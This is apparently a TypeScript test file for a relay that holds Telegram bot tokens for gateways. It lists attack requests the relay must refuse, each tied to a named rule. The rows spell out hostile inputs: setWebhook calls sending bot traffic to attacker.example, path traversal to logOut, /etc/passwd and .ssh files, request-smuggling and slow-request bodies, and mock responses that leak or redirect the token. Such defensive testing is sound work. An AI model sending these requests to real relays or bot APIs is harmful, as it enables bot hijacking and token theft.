/**
 * What whoever owns a gateway, or sits beside one, may try on the relay. Each row must be refused by the rule named and
 * get through when the control named is off; otherwise it would be no attack, or another control's.
 */
import type { IncomingMessage } from "node:http";
import { gunzipSync, gzipSync } from "node:zlib";
import { unscrubbed, type Controls } from "../../../config-files/relay/controls";
import { isAllowedMethod } from "../../../config-files/relay/methods";
import type { RequestHead } from "../../../config-files/relay/request-head";
import type { Target } from "../../../config-files/relay/target";
import {
  addresses,
  authority,
  placeholders,
  realTokens,
  secrets,
  type Handler,
  type Place,
} from "./support/place";

export interface Attack {
  readonly name: string;
  /** Rule in the relay's log; undefined where the connection ends without a request. */
  readonly rule: string | undefined;
  /** Controls as they are in the attempt that must fail, where the deployed ones take too long for a test. */
  readonly on?: Partial<Controls>;
  readonly off: Partial<Controls>;
  readonly bytes: string;
  readonly from?: string;
  /** The connection ends without an answer. */
  readonly unanswered?: true;
  /** Telegram's part. */
  readonly handler?: Handler;
  /** Bytes that follow after a pause. */
  readonly later?: { readonly afterMs: number; readonly bytes: string };
  /** Connections that are open beside this one. */
  readonly beside?: number;
  /** Whether the attacker has what he wanted; by default, something reached Telegram. */
  readonly works?: (place: Place, answer: string) => boolean;
}

const bot = `/bot${placeholders.first}`;
const file = `/file${bot}`;

interface Parts {
  readonly method?: string;
  readonly version?: string;
  /** Lines of the head after the first, with the default ones left out that are named here. */
  readonly lines?: readonly string[];
  readonly host?: readonly string[];
  readonly body?: string;
}

/** Bytes of a request, by default a GET that ends the connection. */
function http(target: string, { method = "GET", version = "1.1", lines, host, body }: Parts = {}): string {
  const length =
    body === undefined
      ? []
      : ["Content-Type: application/json", `Content-Length: ${Buffer.byteLength(body)}`];
  const head = [
    `${method} ${target} HTTP/${version}`,
    ...(host ?? [authority]).map((name) => `Host: ${name}`),
    ...(lines ?? [...length, "Connection: close"]),
  ];
  return `${head.join("\r\n")}\r\n\r\n${body ?? ""}`;
}
const post = (method: string, params: object = {}): string =>
  http(`${bot}/${method}`, { method: "POST", body: JSON.stringify(params) });

// Each control as somebody writes it who does not think of attacks.

const anybody: Partial<Controls> = { gatewayAt: () => "first" };
const everyMethod: Partial<Controls> = { isAllowedMethod: () => true };
/** Cuts the token out wherever it is, and asks for the method up to the first odd character. */
const looseTarget: Partial<Controls> = {
  parseTarget: (_http, target): Target => {
    const [, isFile, rest = ""] = /\/(file\/)?bot[^/]*\/(.*)$/s.exec(target) ?? [];
    return isFile === undefined ? { kind: "method", method: rest, query: "" } : { kind: "file", path: rest };
  },
  isAllowedMethod: (name) => isAllowedMethod(name.split(/[^A-Za-z]/)[0] ?? ""),
};
const looseHead: Partial<Controls> = {
  checkHead: ({ headers }: IncomingMessage): RequestHead =>
    headers["content-length"] === undefined && headers["transfer-encoding"] === undefined
      ? {}
      : { body: { contentType: headers["content-type"] ?? "text/plain", limit: Infinity } },
};
const everyHeader: Partial<Controls> = {
  responseHeaders: (_status, headers) => {
    const kept = Object.entries(headers).filter(([name]) => name !== "transfer-encoding");
    return Object.fromEntries(kept.map(([name, value]) => [name, String(value)]));
  },
};

/** Telegram saw a call that ends like this. */
const arrived =
  (end: string) =>
  ({ seen }: Place): boolean =>
    seen.some(({ target }) => new URL(target, "http://x").pathname.endsWith(end));

const rows = (
  rule: string,
  off: Partial<Controls>,
  list: readonly (readonly [string, string, Partial<Attack>?])[],
) => list.map(([name, bytes, more = {}]): Attack => ({ name, rule, off, bytes, ...more }));

const callers = rows("caller", anybody, [
  ["a container that is no gateway", http(`${bot}/getMe`), { from: addresses.stranger }],
  [
    "another gateway with the first one's placeholder",
    http(`${bot}/getMe`),
    { from: addresses.second, rule: "placeholder" },
  ],
  ["the relay's own address", http(`${bot}/getMe`), { from: addresses.relay }],
]);

const tokens = rows("placeholder", looseTarget, [
  [
    "a token of its own, to use the relay as a way out",
    http("/bot5555555555:AAattackers_own_bot_is_a_way_out_000/getMe"),
  ],
  ["the other gateway's placeholder", http(`/bot${placeholders.second}/getMe`)],
  ["the other gateway's real token", http(`/bot${realTokens.second}/getMe`)],
  ["no token, which somebody sends who can make the gateway fetch an address", http("/bot/getMe")],
  ["the placeholder with its colon encoded", http(`/bot${placeholders.first.replace(":", "%3A")}/getMe`)],
  ["the placeholder and a second one behind it", http(`${bot};${placeholders.second}/getMe`)],
]);

const methods = rows("method", everyMethod, [
  [
    "setWebhook, which sends all the bot hears to another server",
    post("setWebhook", { url: "https://attacker.example/" }),
  ],
  [
    "setWebhook in capitals, which Telegram takes too",
    post("SETWEBHOOK", { url: "https://attacker.example/" }),
  ],
  ["logOut, after which the bot can be run by another server", post("logOut")],
  ["close", post("close")],
  ["getManagedBotToken, which answers with a token", post("getManagedBotToken", { user_id: 1 })],
  ["forwardMessage, which takes a message to another chat", post("forwardMessage", { chat_id: 1 })],
  ["sendInvoice", post("sendInvoice", { chat_id: 1 })],
  ["setMyName", post("setMyName", { name: "x" })],
  ["a method that nobody knows", post("sendEverything")],
  ["an allowed method in another spelling", post("sendmessage", { chat_id: 1, text: "x" })],
  [
    "a forbidden call in one packet behind an allowed one",
    `${http(`${bot}/getMe`, { lines: [] })}${post("setWebhook", { url: "https://attacker.example/" })}`,
    {
      rule: "pipelining",
      off: { ...everyMethod, oneAtATime: false },
      unanswered: true,
      works: arrived("/setWebhook"),
    },
  ],
]);

const targets = rows("target", looseTarget, [
  ["out of the files by ..", http(`${file}/../..${bot}/logOut`), { works: arrived("/logOut") }],
  ["out of the files by %2e%2e", http(`${file}/%2e%2e/%2e%2e/bot1:x/logOut`), { works: arrived("/logOut") }],
  [
    "out of the files by a half encoded .%2E",
    http(`${file}/.%2E/.%2E/bot1:x/logOut`),
    { works: arrived("/logOut") },
  ],
  [
    "out of the files by \\",
    http(`${file}/documents\\..\\..\\..\\bot1:x\\logOut`),
    { works: arrived("/logOut") },
  ],
  ["out of a method by ..", http(`${bot}/getMe/../logOut`), { works: arrived("/logOut") }],
  ["out of a method by encoded slashes", http(`${bot}/getMe%2f..%2flogOut`)],
  ["an empty segment", http(`/${bot}/getMe`)],
  ["a second slash before the method", http(`${bot}//getMe`), { off: { ...looseTarget, ...everyMethod } }],
  ["the test environment", http(`${bot}/test/getMe`), { off: { ...looseTarget, ...everyMethod } }],
  ["a proxy's form of target, of another host", http(`http://attacker.example${bot}/getMe`)],
  ["a proxy's form of target, of Telegram", http(`https://api.telegram.org${bot}/getMe`)],
  ["a path before the bot's", http(`/x${bot}/getMe`)],
  ["a path parameter", http(`${bot}/getMe;x=setWebhook`)],
  ["a null byte", http(`${bot}/getMe%00setWebhook`)],
  ["a fragment", http(`${bot}/getMe#/../logOut`)],
  ["a file with an encoded slash", http(`${file}/documents%2ffile_0.pdf`)],
  ["a hidden file", http(`${file}/.ssh/id`)],
  ["an absolute file", http(`${file}//etc/passwd`)],
  ["a file with a query", http(`${file}/documents/file_0.pdf?x=1`)],
  ["a file with a line break", http(`${file}/documents/file%0d%0a_0.pdf`)],
  ["a message by GET, which an image in a page can send", http(`${bot}/sendMessage?chat_id=1&text=x`)],
  [
    "parameters in the query beside those in the body",
    http(`${bot}/sendMessage?chat_id=2`, { method: "POST", body: '{"chat_id":1,"text":"x"}' }),
  ],
  ["a query that is none", http(`${bot}/getChat?chat_id=1&&x=/../`)],
  ["PUT", http(`${bot}/getMe`, { method: "PUT" })],
  ["HEAD", http(`${bot}/getMe`, { method: "HEAD" })],
  ["OPTIONS, which a page's script sends first", http(`${bot}/getMe`, { method: "OPTIONS" })],
  ["a path without an end", http(`${bot}/getChat?chat_id=${"1".repeat(2000)}`)],
]);

const withBody = (lines: readonly string[], body: string): string =>
  http(`${bot}/sendMessage`, { method: "POST", lines: [...lines, "Connection: close"], body });
const json = '{"chat_id":1,"text":"x"}';
const type = "Content-Type: application/json";

const heads = rows("head", looseHead, [
  ["another host's name, as after DNS rebinding", http(`${bot}/getMe`, { host: ["attacker.example:8090"] })],
  ["two hosts", http(`${bot}/getMe`, { host: [authority, "attacker.example"] })],
  ["no host", http(`${bot}/getMe`, { host: [] })],
  ["HTTP/1.0", http(`${bot}/getMe`, { version: "1.0" })],
  ["an upgrade", http(`${bot}/getMe`, { lines: ["Connection: Upgrade", "Upgrade: websocket"] })],
  [
    "an upgrade to HTTP/2",
    http(`${bot}/getMe`, { lines: ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c"] }),
  ],
  [
    "Connection that names other headers",
    http(`${bot}/getMe`, { lines: ["Connection: close, Content-Length"] }),
  ],
  ["Expect", withBody([type, "Content-Length: 24", "Expect: 100-continue"], json)],
  ["TE", http(`${bot}/getMe`, { lines: ["TE: trailers", "Connection: close"] })],
  [
    "trailers",
    withBody([type, "Transfer-Encoding: chunked", "Trailer: X-A"], `18\r\n${json}\r\n0\r\nX-A: b\r\n\r\n`),
  ],
  [
    "chunks in another encoding",
    withBody([type, "Transfer-Encoding: gzip, chunked"], `18\r\n${json}\r\n0\r\n\r\n`),
  ],
  ["a compressed body", withBody([type, "Content-Encoding: gzip", "Content-Length: 24"], json)],
  [
    "a body that a page of another origin may send",
    withBody(["Content-Type: text/plain", "Content-Length: 24"], json),
  ],
  ["two content types", withBody([type, "Content-Type: text/plain", "Content-Length: 24"], json)],
  [
    "GET with a body",
    http(`${bot}/getMe`, { lines: [type, "Content-Length: 2", "Connection: close"], body: "{}" }),
  ],
  [
    "more than a file may have, announced",
    withBody(["Content-Type: multipart/form-data; boundary=x", "Content-Length: 60000000"], "--x"),
    { rule: "body-size" },
  ],
  [
    "more than parameters may have, announced",
    withBody([type, "Content-Length: 2000000"], "{"),
    { rule: "body-size" },
  ],
]);

const lenient: Partial<Controls> = { insecureHTTPParser: true, ...looseHead };
const parsing = rows("http", lenient, [
  [
    "a body with two lengths",
    withBody([type, "Content-Length: 5", "Transfer-Encoding: chunked"], `18\r\n${json}\r\n0\r\n\r\n`),
  ],
  ["control characters in a header", http(`${bot}/getMe`, { lines: ["X: a\x01b", "Connection: close"] })],
  [
    "lines that end without a carriage return",
    `GET ${bot}/getMe HTTP/1.1\nHost: ${authority}\nConnection: close\n\n`,
  ],
  ["a version that is none", http(`${bot}/getMe`, { version: "1.9" })],
]);

const chunk = `${(100_000).toString(16)}\r\n${"x".repeat(100_000)}\r\n`;
const slow = { afterMs: 3_500, bytes: "Connection: close\r\n\r\n" };
const amounts: Attack[] = [
  {
    name: "more than parameters may have, in chunks",
    rule: "body-size",
    off: { limitStreams: false },
    bytes: withBody([type, "Transfer-Encoding: chunked"], `${chunk.repeat(12)}0\r\n\r\n`),
    works: (_, answer) => /^HTTP\/1.1 (?!413)/.test(answer),
  },
  {
    name: "a head that never ends",
    rule: "http",
    on: { headersTimeoutMs: 1_000, requestTimeoutMs: 1_500 },
    off: {},
    bytes: `GET ${bot}/getMe HTTP/1.1\r\nHost: ${authority}\r\n`,
    later: slow,
  },
  {
    name: "a body that never ends",
    rule: "http",
    on: { headersTimeoutMs: 1_000, requestTimeoutMs: 1_500 },
    off: {},
    bytes: http(`${bot}/getMe`, { method: "POST", lines: [type, "Content-Length: 2"] }),
    later: { afterMs: 3_500, bytes: "{}" },
    works: (_, answer) => answer.startsWith("HTTP/1.1 200"),
  },
  {
    name: "more connections than a gateway may have",
    rule: undefined,
    off: { limitConnections: false },
    bytes: http(`${bot}/getMe`),
    beside: 8,
  },
];

const answering =
  (status: number, headers: { [name: string]: string }, body: string | Buffer = "{}"): Handler =>
  (request, response) => {
    request.resume();
    response.writeHead(status, { "content-length": Buffer.byteLength(body), ...headers }).end(body);
  };
const [secret = ""] = secrets;
const plain = { "content-type": "application/json" };
/** Telegram, or somebody in its place, says too much: asked rightly, and refused or cleaned on the way back. */
const answers: Attack[] = [
  {
    name: "a redirect, to be followed with the token",
    rule: "redirect",
    off: everyHeader,
    bytes: http(`${bot}/getMe`),
    handler: answering(302, { location: `https://attacker.example/bot${realTokens.first}/` }),
    works: (_, answer) => answer.includes("attacker.example"),
  },
  {
    name: "a body in an encoding that nobody asked for",
    rule: "encoding",
    off: everyHeader,
    bytes: http(`${bot}/getMe`),
    handler: answering(
      200,
      { ...plain, "content-encoding": "gzip" },
      gzipSync(`${realTokens.first} `.repeat(50)),
    ),
    works: (_, answer) => {
      const body = Buffer.from(answer.slice(answer.indexOf("\x1f\x8b")), "latin1");
      return body.length > 20 && gunzipSync(body).includes(secret);
    },
  },
  {
    name: "the token in an error's text",
    rule: "method",
    off: { scrub: unscrubbed },
    bytes: http(`${bot}/getMe`),
    handler: answering(404, plain, `{"ok":false,"description":"no /bot${realTokens.first}/getMe"}`),
    works: (_, answer) => answer.includes(secret),
  },
  {
    name: "the token in a file",
    rule: "file",
    off: { scrub: unscrubbed },
    bytes: http(`${file}/documents/file_0.txt`),
    handler: answering(200, { "content-type": "text/plain" }, realTokens.first),
    works: (_, answer) => answer.includes(secret),
  },
  {
    name: "the token in a header",
    rule: "method",
    off: everyHeader,
    bytes: http(`${bot}/getMe`),
    handler: answering(200, { ...plain, "x-request": `/bot${realTokens.first}/getMe` }),
    works: (_, answer) => answer.includes(secret),
  },
  {
    name: "the token as a content type",
    rule: "method",
    off: everyHeader,
    bytes: http(`${bot}/getMe`),
    handler: answering(200, { "content-type": `text/plain; charset=${realTokens.first}` }),
    works: (_, answer) => answer.includes(secret),
  },
];

export const attacks: readonly Attack[] = [
  ...[callers, tokens, methods, targets, heads, parsing].flat(),
  ...amounts,
  ...answers,
];
